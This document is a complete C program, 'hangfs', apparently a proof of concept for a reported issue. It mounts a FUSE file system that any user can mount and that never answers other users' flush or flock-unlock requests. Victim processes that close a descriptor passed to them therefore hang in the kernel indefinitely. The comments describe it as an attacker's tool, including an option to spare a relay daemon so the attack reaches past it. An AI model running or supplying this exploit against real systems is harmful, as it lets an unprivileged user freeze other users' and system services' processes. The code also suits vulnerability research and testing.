// A FUSE file system that never answers another user's FLUSH or flock unlock (issue 26).
//
// usage: hangfs MOUNTPOINT [SPARED-PID...]
//
// Any user may mount it (fusermount3). It holds one file, `f`. Requests of the user who mounted
// it are answered, so the attacker can open, lock and close its own copies; a FLUSH or a flock
// unlock that comes from any other user is never answered, so the process that closes a passed
// descriptor waits in the kernel for as long as this program runs. Requests from a SPARED-PID
// (any of its threads) are answered too: an attacker who aims past a relay (a bus daemon that
// hands the descriptor on and closes its own copy) leaves the relay running.
//
// Lines out: `mounted`, then `held flush uid U pid P` / `held unlock uid U pid P` for every
// request it keeps. It ends on SIGTERM, SIGINT or SIGHUP (the kernel then fails what it held).
#define FUSE_USE_VERSION 314
#include <fuse_lowlevel.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/stat.h>
#include <unistd.h>

static const char contents[] = "hang\n";
static uid_t owner;
static pid_t spared[16];
static int nspared;

static void fill(fuse_ino_t ino, struct stat *st) {
    memset(st, 0, sizeof *st);
    st->st_ino = ino;
    st->st_uid = owner;
    st->st_gid = getgid();
    if (ino == FUSE_ROOT_ID) {
        st->st_mode = S_IFDIR | 0755;
        st->st_nlink = 2;
    } else {
        st->st_mode = S_IFREG | 0644;
        st->st_nlink = 1;
        st->st_size = sizeof contents - 1;
    }
}

// The process a thread belongs to (Tgid in /proc/TID/status); the thread itself when unreadable.
static pid_t process_of(pid_t tid) {
    char path[64], line[256];
    snprintf(path, sizeof path, "/proc/%d/status", (int)tid);
    FILE *f = fopen(path, "r");
    if (f == NULL) return tid;
    pid_t tgid = tid;
    while (fgets(line, sizeof line, f) != NULL) {
        if (sscanf(line, "Tgid: %d", &tgid) == 1) break;
    }
    fclose(f);
    return tgid;
}

static int from_owner(fuse_req_t req) {
    const struct fuse_ctx *c = fuse_req_ctx(req);
    if (c->uid == owner) return 1;
    pid_t p = process_of(c->pid);
    for (int i = 0; i < nspared; i++) if (spared[i] == p) return 1;
    return 0;
}

static void held(const char *what, fuse_req_t req) {
    const struct fuse_ctx *c = fuse_req_ctx(req);
    printf("held %s uid %u pid %d\n", what, (unsigned)c->uid, (int)c->pid);
    fflush(stdout);
}

static void hang_lookup(fuse_req_t req, fuse_ino_t parent, const char *name) {
    if (parent != FUSE_ROOT_ID || strcmp(name, "f") != 0) { fuse_reply_err(req, ENOENT); return; }
    struct fuse_entry_param e;
    memset(&e, 0, sizeof e);
    e.ino = 2;
    e.attr_timeout = 3600;
    e.entry_timeout = 3600;
    fill(2, &e.attr);
    fuse_reply_entry(req, &e);
}

static void hang_getattr(fuse_req_t req, fuse_ino_t ino, struct fuse_file_info *fi) {
    (void)fi;
    struct stat st;
    fill(ino, &st);
    fuse_reply_attr(req, &st, 3600);
}

static void hang_open(fuse_req_t req, fuse_ino_t ino, struct fuse_file_info *fi) {
    if (ino != 2) { fuse_reply_err(req, EISDIR); return; }
    fuse_reply_open(req, fi);
}

static void hang_read(fuse_req_t req, fuse_ino_t ino, size_t size, off_t off, struct fuse_file_info *fi) {
    (void)ino; (void)fi;
    size_t n = sizeof contents - 1;
    if ((size_t)off >= n) { fuse_reply_buf(req, NULL, 0); return; }
    fuse_reply_buf(req, contents + off, size < n - (size_t)off ? size : n - (size_t)off);
}

static void hang_flush(fuse_req_t req, fuse_ino_t ino, struct fuse_file_info *fi) {
    (void)ino; (void)fi;
    if (from_owner(req)) fuse_reply_err(req, 0); else held("flush", req);
}

static void hang_flock(fuse_req_t req, fuse_ino_t ino, struct fuse_file_info *fi, int op) {
    (void)ino; (void)fi;
    if ((op & LOCK_UN) && !from_owner(req)) held("unlock", req); else fuse_reply_err(req, 0);
}

static void hang_release(fuse_req_t req, fuse_ino_t ino, struct fuse_file_info *fi) {
    (void)ino; (void)fi;
    fuse_reply_err(req, 0);
}

static const struct fuse_lowlevel_ops ops = {
    .lookup = hang_lookup,
    .getattr = hang_getattr,
    .open = hang_open,
    .read = hang_read,
    .flush = hang_flush,
    .flock = hang_flock,
    .release = hang_release,
};

int main(int argc, char **argv) {
    if (argc < 2 || argc - 2 > (int)(sizeof spared / sizeof spared[0])) {
        fprintf(stderr, "usage: hangfs MOUNTPOINT [SPARED-PID...]\n");
        return 2;
    }
    owner = getuid();
    for (int i = 2; i < argc; i++) spared[nspared++] = (pid_t)atoi(argv[i]);
    char *args[] = { argv[0], "-o", "fsname=hangfs,subtype=hangfs", NULL };
    struct fuse_args fa = FUSE_ARGS_INIT(3, args);
    struct fuse_session *se = fuse_session_new(&fa, &ops, sizeof ops, NULL);
    if (se == NULL) return 1;
    if (fuse_set_signal_handlers(se) != 0) return 1;
    if (fuse_session_mount(se, argv[1]) != 0) return 1;
    printf("mounted\n");
    fflush(stdout);
    // One thread is enough: a held request is simply never answered.
    int rc = fuse_session_loop(se);
    fuse_session_unmount(se);
    fuse_remove_signal_handlers(se);
    fuse_session_destroy(se);
    return rc < 0 ? 1 : 0;
}
